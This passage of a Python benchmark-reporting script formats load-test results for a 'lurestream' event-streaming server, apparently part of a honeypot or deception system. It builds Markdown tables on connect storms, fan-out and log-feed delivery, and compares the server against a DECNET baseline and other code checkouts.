                    ("kb_per_stream", "KB per stream", ".1f"),
                ],
                "kb_per_stream",
            )
        )
        for name, row in results["idle"]:
            if len(row.get("workers", [])) > 1:
                cells = "; ".join(
                    f"pid {w['pid']}: {w['fds']} fds (limit {w['nofile']}), {w['rss_kb'] / 1024:.0f} MB"
                    for w in row["workers"]
                )
                parts.append(f"{name} workers: {cells}\n")
    if "storm" in results:
        parts.append(
            table(
                f"Connect storm: {args.storm_streams} streams over 100 attackers, at once",
                results["storm"],
                [
                    ("streams", "streams up", "d"),
                    ("failed", "failed", "d"),
                    ("seconds", "s to all up", ".2f"),
                    ("per_second", "streams/s", ".0f"),
                    ("p50_ms", "p50 connect→headers ms", ".0f"),
                    ("p99_ms", "p99 connect→headers ms", ".0f"),
                    ("cpu_ms_per_connect", "server CPU ms/connect", ".2f"),
                    ("queries_per_attacker", "snapshot queries/attacker", ".2f"),
                ],
                "per_second",
            )
        )
    fanout = [
        ("streams", "streams up", "d"),
        ("failed", "failed", "d"),
        ("events_per_s", "events/s", ".0f"),
        ("deliveries_per_s", "deliveries/s", ".0f"),
        ("delivered_share", "delivered", ".2%"),
        ("in_flight_at_end", "after publishing ended", "d"),
        ("p50_ms", "p50 ms", ".1f"),
        ("p99_ms", "p99 ms", ".1f"),
        ("cpu_us_per_delivery", "server CPU µs/delivery", ".1f"),
        *lag,
    ]
    if "sparse" in results:
        parts.append(
            table(
                f"Sparse fan-out: {args.sparse_streams} streams over 500 attackers, "
                f"{args.sparse_rate:.0f} events/s for {args.duration:.0f} s",
                results["sparse"],
                fanout,
                "cpu_us_per_delivery",
            )
        )
    if "broadcast" in results:
        parts.append(
            table(
                f"Broadcast: {args.broadcast_streams} streams on one attacker, "
                f"{args.broadcast_rate:.0f} events/s for {args.duration:.0f} s",
                results["broadcast"],
                [*fanout, ("loadgen_cpu_s", "load generator CPU s", ".1f")],
                "cpu_us_per_delivery",
            )
        )
    if "firehose" in results:
        parts.append(
            table(
                f"Firehose: {args.firehose_streams} streams of {args.firehose_path}, "
                f"{args.firehose_rate:.0f} events/s (identity.formed) for {args.duration:.0f} s",
                results["firehose"],
                [*fanout, ("loadgen_cpu_s", "load generator CPU s", ".1f")],
                None,
            )
        )
        if "broadcast" in results:
            parts.append(firehose_vs_broadcast(results))
    if "logfeed" in results:
        parts.append(logfeed_tables(results["logfeed"], args))
    variants = variant_ratios(results)
    if variants:
        parts.append(variants)
    notes = counters_notes(results)
    if notes:
        parts.append("### What went wrong, per scenario (server counters from /metrics; load generators)\n")
        parts.extend(notes)
        parts.append("")
    fanout_note = (
        'Fan-out: "delivered" = deliveries received ÷ expected on the streams that got a 200, counted until '
        f'none has arrived for 2 s after publishing ended (at most {args.grace:.0f} s); "after publishing '
        'ended" = deliveries that arrived in that time (in flight at the end). '
    )
    parts.append(
        (fanout_note if {"sparse", "broadcast", "firehose"} & set(results) else "")
        + f"Streams set up at {args.ramp:.0f}/s (storm: at once); load generators bind to 127.0.0.2, "
        f"127.0.0.3, … (≤ {PER_LOADGEN} streams each)."
        + (
            f' A refused stream was opened again 1–2 s later, up to {args.retry_refused} times ("failed": never '
            "got a 200; every refusal is in the notes)."
            if args.retry_refused
            else ""
        )
        + "\n"
    )
    text = "\n".join(parts)
    print(text)
    if args.output:
        with open(args.output, "w") as fh:
            fh.write(text)


def firehose_vs_broadcast(results: dict[str, list[tuple[str, dict]]]) -> str:
    """The firehose beside the broadcast of the same run (same server, same invocation)."""
    out = [
        "Firehose against the broadcast scenario of the same run (lurestream):",
        "",
        "| run | streams | deliveries/s | p50 ms | p99 ms | server CPU µs/delivery | × broadcast's µs/delivery "
        "| p99 × broadcast's |",
        "|---|---|---|---|---|---|---|---|",
    ]
    broadcast = {n: r for n, r in results["broadcast"]}
    for name, row in results["firehose"]:
        base = broadcast.get(name)
        for label, r in ((f"broadcast, {name}", base), (f"firehose, {name}", row)):
            if r is None:
                continue
            ratio_cpu = r["cpu_us_per_delivery"] / base["cpu_us_per_delivery"] if base else None
            ratio_p99 = r["p99_ms"] / base["p99_ms"] if base and base["p99_ms"] else None
            out.append(
                f"| {label} | {r['streams']} | {r['deliveries_per_s']:.0f} | {r['p50_ms']:.1f} | {r['p99_ms']:.1f} | "
                f"{r['cpu_us_per_delivery']:.2f} | {fmt(ratio_cpu, '.2f')}× | {fmt(ratio_p99, '.2f')}× |"
            )
    return "\n".join(out) + "\n"


def logfeed_tables(rows: list[tuple[str, dict]], args: argparse.Namespace) -> str:
    """The live log feed: delivery, completeness and store queries per server and size, then the ratios."""
    out = [
        f"### Live log feed: GET /api/v1/stream over 100 filters, {args.logfeed_rate:.0f} rows/s inserted for "
        f"{args.duration:.0f} s",
        "",
        "| server | viewers | streams up | failed | rows inserted (rows/s) | row deliveries expected | delivered | "
        "streams with exactly their rows | p50 ms | p99 ms | max ms | store queries/s (by kind) | "
        "server CPU µs/row delivery | load generator CPU s |",
        "|---|---|---|---|---|---|---|---|---|---|---|---|---|---|",
    ]
    for name, r in rows:
        kinds = ", ".join(f"{k} {v:.2f}" for k, v in sorted(r["queries_per_s"].items()) if v)
        out.append(
            f"| {name.split(',')[0]} | {r['viewers']} | {r['streams']} | {r['failed']} | {r['rows_inserted']} "
            f"({r['insert_rate']:.0f}) | {r['expected']} | {r['delivered_share']:.2%} | "
            f"{r['streams_complete']}/{r['streams_checked']} | {r['p50_ms']:.0f} | {r['p99_ms']:.0f} | "
            f"{r['max_ms']:.0f} | {r['queries_per_s_total']:.2f} ({kinds or 'none'}) | "
            f"{r['cpu_us_per_delivery']:.2f} | {r['loadgen_cpu_s']:.1f} |"
        )
    out.append("")
    lure = [(n, r) for n, r in rows if not n.startswith("DECNET")]
    base = [(n, r) for n, r in rows if n.startswith("DECNET")]
    if lure and base:
        out += [
            "| DECNET design against lurestream | viewers | store queries/s | × | p99 ms | × | delivered "
            "| streams complete |",
            "|---|---|---|---|---|---|---|---|",
        ]
        for bname, b in base:
            out.append(
                f"| {bname.split(',')[0]} | {b['viewers']} | {b['queries_per_s_total']:.1f} | — | "
                f"{b['p99_ms']:.0f} | — | "
                f"{b['delivered_share']:.2%} | {b['streams_complete']}/{b['streams_checked']} |"
            )
            for lname, r in lure:
                q = b["queries_per_s_total"] / r["queries_per_s_total"] if r["queries_per_s_total"] else None
                p = b["p99_ms"] / r["p99_ms"] if r["p99_ms"] else None
                out.append(
                    f"| {lname.split(',')[0]} | {r['viewers']} | {r['queries_per_s_total']:.2f} | "
                    f"DECNET {fmt(q, '.0f')}× | "
                    f"{r['p99_ms']:.0f} | DECNET {fmt(p, '.1f')}× | {r['delivered_share']:.2%} | "
                    f"{r['streams_complete']}/{r['streams_checked']} |"
                )
        out.append("")
    for name, r in rows:
        bits = [
            f"queries run over the server's life {compact({k: int(v) for k, v in sorted(r['queries_run'].items())})}",
            f"slowest insert {r['slowest_insert_ms']:.0f} ms",
            f"streams short of rows {r['streams_missing_rows']} ({r['rows_missing']} rows), other mismatches "
            f"{r['streams_other']}, rows out of order {r['out_of_order']}, closed by the server {r['closed_early']}",
            f"{r['in_flight_at_end']} rows arrived after inserting ended "
            f"(the last {r['last_after_end_ms']:.0f} ms after)",
        ]
        if r["worst_filters"]:
            bits.append(
                "filters short of rows (expected per stream, fewest received): "
                + "; ".join(f"`{f}` {w[0]}/{w[1]}" for f, w in r["worst_filters"])
            )
        out.append(f"- {name}: " + "; ".join(bits))
    return "\n".join(out) + "\n"


VARIANT_FIGURES = {
    "idle": [("kb_per_stream", "KB per stream")],
    "storm": [
        ("per_second", "streams/s"),
        ("p99_ms", "p99 connect→headers ms"),
        ("cpu_ms_per_connect", "CPU ms/connect"),
    ],
    "sparse": [("p50_ms", "p50 ms"), ("p99_ms", "p99 ms"), ("cpu_us_per_delivery", "server CPU µs/delivery")],
    "broadcast": [("p50_ms", "p50 ms"), ("p99_ms", "p99 ms"), ("cpu_us_per_delivery", "server CPU µs/delivery")],
    "firehose": [("p50_ms", "p50 ms"), ("p99_ms", "p99 ms"), ("cpu_us_per_delivery", "server CPU µs/delivery")],
}


def variant_ratios(results: dict[str, list[tuple[str, dict]]]) -> str:
    """With ``--servers lurestream,lurestream@PATH``: this checkout's figure ÷ the other checkout's, per round
    (the runs next to each other in time) and their median."""
    import statistics

    out: list[str] = []
    for scenario, rows in results.items():
        figures = VARIANT_FIGURES.get(scenario)
        new = [r for _, r in rows if r.get("checkout") == "this"]
        old = [(n, r) for n, r in rows if r.get("checkout") not in (None, "this")]
        if not figures or not new or not old:
            continue
        old_name = f"lurestream {old[0][1].get('commit', '?')} ({old[0][1]['checkout']})"
        pairs = [(nr, orow) for nr in new for _, orow in old if orow["round"] == nr["round"]]
        if not out:
            out += ["### This checkout ÷ the other checkout, per round (old and new run back to back)", ""]
        out += [
            f"{scenario}: lurestream ({new[0].get('commit', '?')}) ÷ {old_name}",
            "",
            "| figure | " + " | ".join(f"round {nr['round']}" for nr, _ in pairs) + " | median |",
            "|---" * (len(pairs) + 2) + "|",
        ]
        for key, title in figures:
            ratios = [nr[key] / orow[key] for nr, orow in pairs if orow.get(key)]
            cells = [f"{x:.2f}" for x in ratios]
            if ratios:
                out.append(f"| {title} | " + " | ".join(cells) + f" | {statistics.median(ratios):.2f} |")
        out.append("")
    return "\n".join(out)


def counters_notes(results: dict[str, list[tuple[str, dict]]]) -> list[str]:
    """One line per scenario and server: the server's counters and what the load generators saw."""
    lines = []
    for scenario, rows in results.items():
        for name, row in rows:
            server = row.get("server") or {}
            bits = []
            if server:
                bits.append(
                    f"lagging closes {server['lagging_closes']}, send timeouts {server['send_timeouts']}, "
                    f"disconnects {compact(server['disconnects'])}, refused {compact(server['http_refused'])}, "
                    f"auth failures {compact(server['auth_failures'])}, snapshot queries {server['snapshot_queries']}, "
                    f"connects {server['connects']}, open at the end {server['streams_open']}"
                )
            statuses = {k: v for k, v in row.get("statuses", {}).items() if k != "200"}
            bits.append(
                f"load generators: non-200 {compact(statuses)}, "
                f"connect errors {compact(row.get('connect_errors', {}))}, "
                f"reset before headers {row.get('failed_before_headers', 0)}, retried {row.get('retried', 0)}, "
                f"closed by the server {row.get('closed_early', 0)}, retry frames {row.get('retry_frames', 0)}"
            )
            if row.get("cpu_s"):
                bits.append(
                    "CPU s: "
                    + ", ".join(f"{k} {v:.1f}" for k, v in row["cpu_s"].items())
                    + f", load generators {row.get('loadgen_cpu_s', 0):.1f}"
                )
            if "in_flight_at_end" in row:
                bits.append(
                    f"{row['deliveries']} of {row['expected']} expected deliveries; {row['in_flight_at_end']} "
                    f"arrived after publishing ended (the last {row['last_after_end_ms']:.0f} ms after)"
                )
            commit = f" (commit {row['commit']})" if row.get("commit") else ""
            lines.append(f"- {scenario}, {name}{commit}: " + "; ".join(bits))
    return lines


def compact(counts: dict[str, Any]) -> str:
    return "{" + ", ".join(f"{k}: {v}" for k, v in counts.items()) + "}" if counts else "none"


if __name__ == "__main__":
    main()
